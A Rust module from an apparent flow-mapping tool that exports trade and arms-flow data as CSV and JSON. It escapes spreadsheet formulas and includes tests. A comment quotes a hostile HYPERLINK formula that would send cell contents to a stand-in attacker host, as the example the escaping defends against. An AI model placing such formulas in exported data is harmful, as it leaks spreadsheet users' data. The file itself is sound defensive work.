//! The flows shown as data: CSV for readers and spreadsheets, JSON the map reads back.

use crate::dataset::Dataset;
use crate::describe::{flow_sources, location_name, statements};
use crate::i18n::Lang;
use crate::model::FlowValue;

/// Quotes a CSV field when it needs it (RFC 4180). A field a spreadsheet would run as a
/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
/// apostrophe, which spreadsheets show as text: a dataset text such as
/// `=HYPERLINK("https://evil.example/?"&A1)` must not become a live formula on a reader's
/// machine. (The figures are never negative; the JSON download keeps every text as it is.)
fn csv_field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let s = if formula { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The flows at `visible` as CSV, one row per flow: ids, the figure's columns as
/// `flowmap-data convert` names them, and readable text (route, value, who says so and
/// where). It is a table for readers; the JSON download is the one the map reads back.
///
/// # Examples
/// ```
/// use flowmap_core::{dataset::Dataset, export::csv, i18n::Lang};
/// let d = Dataset::from_json("d", include_str!("../../tests/fixtures/two_flows.json")).unwrap();
/// let text = csv(&d, &[1], Lang::En);
/// assert!(text.starts_with("id,from,to,via,category,amount,currency"));
/// assert!(text.contains("goods,SRB,RUS,,dual-use,143900000,USD,,total"));
/// ```
pub fn csv(dataset: &Dataset, visible: &[usize], lang: Lang) -> String {
    let mut out = String::from(
        "id,from,to,via,category,amount,currency,unit,basis,start,end,route,description,value,status,who_says_so,sources\n",
    );
    for f in visible.iter().filter_map(|i| dataset.raw.flows.get(*i)) {
        let (amount, currency, unit, basis) = match &f.value {
            FlowValue::Known(q) => (
                crate::decimal::Shortest(q.amount).to_string(),
                q.currency.clone().unwrap_or_default(),
                q.unit.clone().unwrap_or_default(),
                serde_json::to_value(q.basis)
                    .ok()
                    .and_then(|v| v.as_str().map(String::from))
                    .unwrap_or_default(),
            ),
            FlowValue::Undisclosed(_) => {
                ("undisclosed".into(), String::new(), String::new(), String::new())
            }
        };
        let period = f.period.clone().unwrap_or_default();
        let sources: Vec<String> = flow_sources(dataset, f)
            .into_iter()
            .map(|s| crate::describe::source_line(s, lang))
            .collect();
        let who: Vec<String> = statements(dataset, f).iter().map(|s| s.line(lang)).collect();
        let route: Vec<&str> =
            dataset.route(f).into_iter().map(|id| location_name(dataset, id, lang)).collect();
        let row = [
            f.id.clone(),
            f.from.clone(),
            f.to.clone(),
            f.via.join(";"),
            f.category.clone(),
            amount,
            currency,
            unit,
            basis,
            period.start.map(|d| d.to_string()).unwrap_or_default(),
            period.end.map(|d| d.to_string()).unwrap_or_default(),
            route.join(" → "),
            f.description.get(lang.tag()).to_string(),
            crate::format::flow_value(&f.value, lang),
            f.status.key().to_string(),
            who.join("; "),
            sources.join("; "),
        ];
        out.push_str(&row.iter().map(|c| csv_field(c)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

/// The dataset with only the flows at `visible`, as JSON the map can load again: without
/// the story, whose steps are about the whole dataset.
pub fn json(dataset: &Dataset, visible: &[usize]) -> String {
    let mut raw = dataset.raw.clone();
    raw.flows = visible.iter().filter_map(|i| dataset.raw.flows.get(*i).cloned()).collect();
    raw.story.clear();
    serde_json::to_string_pretty(&raw).unwrap_or_default()
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn csv_defuses_formulas() {
        assert_eq!(csv_field("=1+1"), "'=1+1");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
        assert_eq!(csv_field("a=1"), "a=1");
        assert_eq!(csv_field("2023-07"), "2023-07");
    }

    #[test]
    fn csv_quotes_what_needs_it_and_reads_back_the_ids() {
        let d =
            Dataset::from_json("d", include_str!("../../tests/fixtures/two_flows.json")).unwrap();
        let text = csv(&d, &[0, 1], Lang::En);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(
            lines[1],
            "kits,SRB,UKR,CZE,arms,undisclosed,,,,,,Serbia → Czechia → Ukraine,Rocket kits,value not disclosed,alleged,Russia's SVR claims (reported by RKS News),RKS News"
        );
        assert_eq!(csv_field("a \"b\", c"), "\"a \"\"b\"\", c\"");
    }

    #[test]
    fn json_keeps_only_the_flows_shown_and_loads_again() {
        let d =
            Dataset::from_json("d", include_str!("../../tests/fixtures/two_flows.json")).unwrap();
        let again = Dataset::from_json("again", &json(&d, &[1])).unwrap();
        assert!(again.is_valid());
        assert_eq!(again.raw.flows.len(), 1);
        assert_eq!(again.raw.flows[0].id, "goods");
        // A story about flows left out would not load cleanly: it is left out too.
        let mut told = d.clone();
        told.raw.story =
            vec![serde_json::from_str(r#"{"title": "T", "text": "t", "view": {"flow": "kits"}}"#)
                .unwrap()];
        let again = Dataset::from_json("again", &json(&told, &[1])).unwrap();
        assert!(again.is_valid() && again.raw.story.is_empty());
    }
}
